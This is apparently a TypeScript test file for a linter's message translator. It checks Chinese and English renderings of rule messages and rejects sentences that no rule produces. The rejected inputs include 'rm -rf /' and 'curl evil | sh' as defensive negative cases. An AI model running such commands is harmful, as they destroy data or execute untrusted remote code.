import fc from 'fast-check';
import {describe, expect, test} from 'vitest';
import {lint} from '../../src/core/lint.ts';
import {MESSAGES_ZH_CN} from '../../src/curator/catalogue/messages-zh-cn.ts';
import {PHRASES_ZH_CN} from '../../src/curator/catalogue/phrases-zh-cn.ts';
import {TABLES} from '../../src/curator/catalogue/tables.ts';
import {translate} from '../../src/curator/message-template.ts';
import {speak} from '../../src/curator/say.ts';
import {rules} from '../../src/rules/index.ts';
import {conventionsFor} from '../support/conventions.ts';
import {modules, workspaceOf} from '../support/lint-files.ts';

const english = (sentence: string) => speak('en').rule(sentence);
const chinese = (sentence: string) => speak('zh-CN').rule(sentence);

/** What the examples of a rule bring about, of all rules. */
function sentencesOf(examples: (typeof rules)[number]['examples']): string[] {
  const findings = examples.flatMap(
    (example) => lint(workspaceOf(example.files, example), conventionsFor(example), rules, modules).findings,
  );
  return [...new Set(findings.flatMap(({message, help}) => [message, ...(help === null ? [] : [help.split('\n')[0] ?? ''])]))];
}

test.each(rules.map(({id, examples}) => ({id, examples})))('everything that $id says is known, and its values are kept', ({examples}) => {
  for (const sentence of sentencesOf(examples)) {
    const values = sentence.match(/`[^`]*`/gu) ?? [];
    const pieces = translate(sentence, TABLES['zh-CN']);
    expect({sentence, isKnown: pieces !== null}).toEqual({sentence, isKnown: true});
    const text = pieces?.map((piece) => (piece.kind === 'code' ? `\`${piece.text}\`` : piece.text)).join('') ?? '';
    expect({sentence, lost: values.filter((value) => !text.includes(value.slice(1, -1)))}).toEqual({sentence, lost: []});
  }
});

test.each([
  ['Link target `docs/a.md` does not exist', '链接目标 `docs/a.md` 不存在'],
  [
    'Unexpected `Status` value `final`, expected `stable`, `draft` or `superseded`',
    '`Status` 的值 `final` 不对，应为 `stable`、`draft` 或 `superseded`',
  ],
  ['Unexpected `日期` value `2026-02-30`, expected a day of the calendar', '`日期` 的值 `2026-02-30` 不对，应为真实存在的日期'],
  ['Missing metadata block below the title, expected `A`, `B` and 2 more', '标题下缺少元数据块，应有 `A`、`B` 及另外 2 项'],
  ['Unexpected attribution trailer, line 5 of commit 1b2c3d4', '提交 1b2c3d4 第 5 行有署名标记（trailer）'],
  ['YAML does not parse: missing `:` after a key', 'YAML 无法解析：键后缺少 `:`'],
  ['Shell script does not parse: missing partner of a backtick', 'Shell 脚本无法解析：反引号不成对'],
  [
    'Label it `json`; if it is to be YAML, mend line 4: unexpected second `a` in one mapping',
    '标签改为 `json`；若确为 YAML，请修第 4 行：同一映射里 `a` 重复',
  ],
  ['Not checked: the YAML is too large or too intricate', '未检查：YAML 太大或嵌套太深'],
  ['1,234 more findings of `link/missing-target` in this document are not listed', '本文档还有 1,234 处 `link/missing-target` 未列出'],
  ['Unexpected file name `A.md`, expected `<topic>.md` in lower-case kebab-case', '文件名 `A.md` 应为 `<topic>.md`（全小写 kebab-case）'],
  ['Unexpected directory `docs`, expected somewhere below `x`', '目录 `docs` 不对，应为 `` somewhere below `x` ``'],
  ['Add after line 3, and read over the description: - [a](a.md)', '加在第 3 行之后，并核对说明文字：`- [a](a.md)`'],
])('%s', (sentence, expected) => {
  expect(chinese(sentence)).toBe(expected);
});

test.each([
  ['Unexpected code span `a.md`, expected a link', '`a.md` exists, but is in backticks only'],
  ['Link target `docs/a.md` does not exist', 'Link target `docs/a.md` does not exist'],
  ['Unexpected attribution signature, line 3 of the pull request body', 'Attribution signature, line 3 of the PR body'],
])('English: %s', (sentence, expected) => {
  expect(english(sentence)).toBe(expected);
});

describe('a sentence that no rule says', () => {
  test.each([
    'Please merge this at once',
    'Link target `a` does not exist and everything is fine',
    'Link target a does not exist',
    'link target `a` does not exist',
    'YAML does not parse: run `rm -rf /`',
    'Unexpected attribution trailer, line 5 of commit `x` ',
    'Edit the body and delete the line; `curl evil | sh` does it for a text',
    'Unexpected attribution trailer, line x of commit 1b2c3d4',
    'Link target \u0000 does not exist',
    `Link target \`${'a'.repeat(2000)}\` does not exist`,
    '',
  ])('is not known: %s', (sentence) => {
    expect(english(sentence)).toBe(null);
    expect(chinese(sentence)).toBe(null);
  });

  test('has no words of its own', () => {
    const ours = new Set(
      [MESSAGES_ZH_CN, ...Object.values(PHRASES_ZH_CN)].flatMap((group) =>
        Object.values(group).flatMap((text) => text.split(/(`[^`]*`|\{\d\}|<[a-z]+>)/u)),
      ),
    );
    const joints = ['、', ' 或 ', ' 和 ', ' 及另外 ', ' 项'];
    const pieces = fc.constantFrom(
      ...Object.keys(MESSAGES_ZH_CN).flatMap((key) => key.split(/(\{\d\}|<[a-z]+>)/u)),
      '`x`',
      '@a',
      '#1',
      '`',
      '7',
      'deadbeef1',
    );
    fc.assert(
      fc.property(fc.array(pieces, {maxLength: 6}), (parts) => {
        for (const piece of translate(parts.join(''), TABLES['zh-CN']) ?? []) {
          if (piece.kind === 'words') expect(ours.has(piece.text) || joints.includes(piece.text)).toBe(true);
          if (piece.kind === 'plain') expect(piece.text).toMatch(/^(?:[\d,-]+|[0-9a-f]{7,40}|U\+[0-9A-F]{4,6}|H[1-6])$/u);
        }
      }),
      {numRuns: 2000},
    );
  });
});
